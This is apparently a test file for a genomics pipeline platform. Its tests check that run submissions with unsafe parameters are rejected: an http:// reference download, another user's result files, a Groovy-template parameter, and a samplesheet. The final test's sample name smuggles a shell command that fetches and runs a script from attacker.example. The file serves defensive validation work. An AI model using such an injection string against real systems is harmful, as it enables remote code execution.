async def test_a_recovery_is_checked_like_a_new_run(platform: Running) -> None:
    pair = (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")
    scrnaseq = {"pipeline": "nf-core/scrnaseq", "pipeline_version": "2.7.1", "params": SCRNASEQ_PARAMS}
    created = await create(platform, sheet(pair), **scrnaseq)
    assert created.status_code == 201, created.text
    run_id = created.json()["run_id"]
    assert (await platform.http.delete(f"/api/runs/{run_id}", headers=ALICE_HTTP)).status_code == 200
    before = await run_count(platform)
    response = await platform.http.post(
        f"/api/runs/{run_id}/recover",
        json={"reuse_work_dir": False, "override_params": {**SCRNASEQ_PARAMS, "fasta": "http://example.com/g.fa"}},
        headers=ALICE_HTTP,
    )
    found = violations(response)
    assert [f for f, _ in found] == ["params.fasta"] and "http:// downloads are not allowed" in found[0][1]
    assert await run_count(platform) == before


async def test_a_file_param_without_a_format_is_checked_like_any_path(platform: Running) -> None:
    # scrnaseq stages params.multiqc_logo into MultiQC, but no schema version gives it `format: file-path`:
    # the manifest's path_params make it a path, so another user's results cannot be copied in through it.
    run_id = await finished_run(platform, "bob@example.com")
    theirs = run_file(platform, run_id, "results/fastq", "R1")
    pair = (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")
    body = {"pipeline": "nf-core/scrnaseq", "pipeline_version": "2.7.1"}
    params = {**SCRNASEQ_PARAMS, "multiqc_logo": theirs}
    found = violations(await create(platform, sheet(pair), params=params, **body))
    assert found == [("params.multiqc_logo", f"{theirs} is not in the results/ of one of your runs")]
    # And the param whose file scrnaseq renders as a Groovy template may not be set at all.
    params = {**SCRNASEQ_PARAMS, "multiqc_methods_description": f"gs://{LAB}/refs/genome.fa"}
    found = violations(await create(platform, sheet(pair), params=params, **body))
    assert [f for f, _ in found] == ["params.multiqc_methods_description"]
    assert "run as a Groovy template on the orchestrator" in found[0][1]


async def test_a_sample_name_that_would_reach_a_shell_is_refused(platform: Running) -> None:
    pair = (f"gs://{LAB}/run1/s1_R1.fastq.gz", f"gs://{LAB}/run1/s1_R2.fastq.gz")
    hostile = "sample,fastq_1,fastq_2\n" + f"s1;curl${{IFS}}attacker.example|sh;#,{pair[0]},{pair[1]}\n"
    found = violations(await create(platform, hostile))
    assert [f for f, _ in found] == ["samplesheet[row 1].sample"]
